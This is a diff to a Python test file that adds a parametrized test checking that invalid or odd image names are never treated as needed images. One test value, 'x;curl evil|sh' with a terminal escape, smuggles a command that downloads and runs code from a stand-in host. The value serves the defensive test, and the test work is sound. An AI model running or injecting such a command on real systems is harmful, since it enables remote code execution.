@@ -65,6 +65,14 @@ def test_a_run_is_refused_before_it_begins(version: Version, ada: User) -> None:
     assert "the first needs none of them" in refused.value.hint
 
 
+@pytest.mark.parametrize("name", ["x;curl evil|sh #\x1b[2J", "", "\x00", "MyImage", "--help"])
+def test_what_can_be_no_image_is_neither_named_nor_in_the_way(version: Version, ada: User, name: str) -> None:
+    version.describe["splits"]["eval"]["images"] = {name: 0}
+    version.save(update_fields=["describe"])
+    start(version, ada)
+    assert call(None, "get", "environments/ada/tiny-env/versions/0.1.0").json()["needs"] == []
+
+
 def test_only_the_images_of_chosen_rows_count(version: Version, ada: User) -> None:
     start(version, ada, 1)
     create_image(ada.owner, "swe/a:1")
